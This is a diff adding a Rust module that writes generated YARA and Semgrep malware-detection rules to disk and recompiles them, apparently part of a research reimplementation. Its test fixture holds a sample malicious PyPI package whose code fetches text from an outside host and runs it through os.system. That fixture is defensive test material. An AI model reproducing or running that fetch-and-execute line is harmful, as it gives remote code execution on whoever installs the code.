@@ -1,0 +1,151 @@
+//! Rule deployment: write a pipeline output as the `.yar` / `.yaml` file
+//! tree that YARA and Semgrep installations consume.
+//!
+//! The paper's headline operational property is that generated rules
+//! "can be directly deployed to scan software packages without errors"
+//! (§I); this module produces that deployable artifact and verifies it by
+//! recompiling every file it wrote.
+
+use std::fs;
+use std::io;
+use std::path::{Path, PathBuf};
+
+use crate::pipeline::PipelineOutput;
+
+/// Files written by one deployment.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct Deployment {
+    /// Path of the combined YARA ruleset (`rulellm.yar`), if written.
+    pub yara_file: Option<PathBuf>,
+    /// Paths of the Semgrep rule files (one `.yaml` per rule).
+    pub semgrep_files: Vec<PathBuf>,
+}
+
+impl Deployment {
+    /// Total files written.
+    pub fn file_count(&self) -> usize {
+        usize::from(self.yara_file.is_some()) + self.semgrep_files.len()
+    }
+}
+
+/// Writes `output` under `dir` (`dir/rulellm.yar` plus
+/// `dir/semgrep/<id>.yaml`), creating directories as needed, then
+/// recompiles every written file as a deployment self-check.
+///
+/// # Errors
+///
+/// Returns `io::Error` for filesystem failures; compile failures of
+/// written artifacts panic, because aligned rules failing to recompile
+/// indicates pipeline corruption, not an environmental condition.
+pub fn write_rules(output: &PipelineOutput, dir: &Path) -> io::Result<Deployment> {
+    fs::create_dir_all(dir)?;
+    let mut deployment = Deployment {
+        yara_file: None,
+        semgrep_files: Vec::new(),
+    };
+    if !output.yara.is_empty() {
+        let path = dir.join("rulellm.yar");
+        let text = output.yara_ruleset();
+        fs::write(&path, &text)?;
+        let reread = fs::read_to_string(&path)?;
+        yara_engine::compile(&reread)
+            .unwrap_or_else(|e| panic!("deployed YARA file failed to recompile: {e}"));
+        deployment.yara_file = Some(path);
+    }
+    if !output.semgrep.is_empty() {
+        let semgrep_dir = dir.join("semgrep");
+        fs::create_dir_all(&semgrep_dir)?;
+        for rule in &output.semgrep {
+            let id = rule
+                .text
+                .lines()
+                .find_map(|l| l.trim().trim_start_matches("- ").strip_prefix("id:"))
+                .map(|s| s.trim().to_owned())
+                .unwrap_or_else(|| format!("rule-{:08x}", digest::fnv1a(rule.text.as_bytes()) as u32));
+            let path = semgrep_dir.join(format!("{}.yaml", sanitize(&id)));
+            fs::write(&path, &rule.text)?;
+            let reread = fs::read_to_string(&path)?;
+            semgrep_engine::compile(&reread)
+                .unwrap_or_else(|e| panic!("deployed Semgrep file failed to recompile: {e}"));
+            deployment.semgrep_files.push(path);
+        }
+    }
+    Ok(deployment)
+}
+
+fn sanitize(id: &str) -> String {
+    id.chars()
+        .map(|c| {
+            if c.is_ascii_alphanumeric() || c == '-' || c == '_' {
+                c
+            } else {
+                '_'
+            }
+        })
+        .collect()
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use oss_registry::{Ecosystem, Package, PackageMetadata, SourceFile};
+
+    fn temp_dir(tag: &str) -> PathBuf {
+        let dir = std::env::temp_dir().join(format!(
+            "rulellm-deploy-{tag}-{}",
+            std::process::id()
+        ));
+        let _ = fs::remove_dir_all(&dir);
+        dir
+    }
+
+    fn sample_output() -> PipelineOutput {
+        let pkg = Package::new(
+            PackageMetadata::new("evil-pkg", "0.0.0"),
+            vec![SourceFile::new(
+                "evil_pkg/__init__.py",
+                "import os, requests\n\ndef go():\n    os.system(requests.get('https://bexlum.top/t').text)\n",
+            )],
+            Ecosystem::PyPi,
+        );
+        crate::Pipeline::new(crate::PipelineConfig::full()).run(&[&pkg])
+    }
+
+    #[test]
+    fn writes_and_recompiles_rule_tree() {
+        let dir = temp_dir("tree");
+        let output = sample_output();
+        let deployment = write_rules(&output, &dir).expect("deploy");
+        assert!(deployment.yara_file.is_some());
+        assert_eq!(deployment.semgrep_files.len(), output.semgrep.len());
+        assert_eq!(
+            deployment.file_count(),
+            1 + output.semgrep.len()
+        );
+        for f in &deployment.semgrep_files {
+            assert!(f.exists());
+            assert!(f.extension().is_some_and(|e| e == "yaml"));
+        }
+        let _ = fs::remove_dir_all(&dir);
+    }
+
+    #[test]
+    fn empty_output_writes_nothing() {
+        let dir = temp_dir("empty");
+        let output = PipelineOutput {
+            yara: Vec::new(),
+            semgrep: Vec::new(),
+            stats: Default::default(),
+        };
+        let deployment = write_rules(&output, &dir).expect("deploy");
+        assert_eq!(deployment.file_count(), 0);
+        assert!(deployment.yara_file.is_none());
+        let _ = fs::remove_dir_all(&dir);
+    }
+
+    #[test]
+    fn sanitize_strips_path_hazards() {
+        assert_eq!(sanitize("detect/../../etc"), "detect_______etc");
+        assert_eq!(sanitize("good-id_9"), "good-id_9");
+    }
+}
